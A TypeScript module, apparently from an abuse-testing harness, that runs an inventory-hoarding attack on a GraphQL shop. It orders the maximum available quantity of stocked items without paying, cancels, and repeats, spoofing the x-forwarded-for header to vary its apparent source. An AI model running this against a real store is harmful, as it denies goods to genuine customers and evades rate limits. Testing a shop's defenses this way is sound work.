import { randomUUID } from 'node:crypto';
import { addressOf, customer, type Draw } from './attack';
import type { Assault, Target } from './connections';

const shelf = `query($skus: [ID!]!) { products(first: 100, filter: { skus: $skus, inStock: true }) {
  nodes { sku available } } }`;
const placing = `mutation($input: PlaceOrderInput!) { placeOrder(input: $input) {
  __typename ... on Order { id } } }`;
const cancelling = `mutation($id: ID!) { cancelOrder(id: $id, reason: "changed my mind") {
  __typename } }`;

const productsCount = 100;
/** The default of `orders.quantityMax`. */
const quantityMax = 99_999;

interface Product {
  readonly sku: string;
  readonly available: number;
}

interface Answer {
  readonly data?: {
    readonly products?: { readonly nodes: readonly Product[] } | null;
    readonly placeOrder?: { readonly __typename: string; readonly id?: string } | null;
  } | null;
  readonly errors?: readonly { readonly extensions?: { readonly code?: string } }[];
}

/**
 * Orders as many units as an order may have, does not pay, cancels what was accepted, and repeats.
 */
async function hoard(draw: Draw, target: Target): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  const endsAtMs = performance.now() + target.holdMs;
  while (!target.signal.aborted && performance.now() < endsAtMs) {
    const skus = draw.random.shuffled(draw.known.skus).slice(0, productsCount);
    const { data, errors } = await ask(draw, target, shelf, { skus });
    const lines = (data?.products?.nodes ?? []).map(({ sku, available }) => ({
      sku,
      quantity: Math.min(available, quantityMax),
    }));
    const placed = lines.length === 0 ? { errors } : await ask(draw, target, placing, input(lines));
    const order = placed.data?.placeOrder;
    const outcome = order?.__typename ?? placed.errors?.[0]?.extensions?.code ?? 'no answer';
    counts[`hoard ${outcome}`] = (counts[`hoard ${outcome}`] ?? 0) + 1;
    if (order?.id) await ask(draw, target, cancelling, { id: order.id });
  }
  return counts;
}

const input = (lines: readonly object[]) => ({
  input: {
    idempotencyKey: randomUUID(),
    currency: 'EUR',
    lines,
    shippingAddress: addressOf('Berlin'),
    payment: { token: 'tok_action' },
  },
});

/** Sends an operation. A response that the end of the phase cuts off counts as empty. */
async function ask(
  { account }: Draw,
  { url, address, signal }: Target,
  query: string,
  variables: object,
): Promise<Answer> {
  try {
    const response = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'x-forwarded-for': address,
        authorization: `Bearer ${account?.token}`,
      },
      body: JSON.stringify({ query, variables }),
      signal,
    });
    return (await response.json()) as Answer;
  } catch (error) {
    if (signal.aborted) return {};
    throw error;
  }
}

export const hoarders: Assault = { name: 'N3 hoarders', askers: customer, engage: hoard };
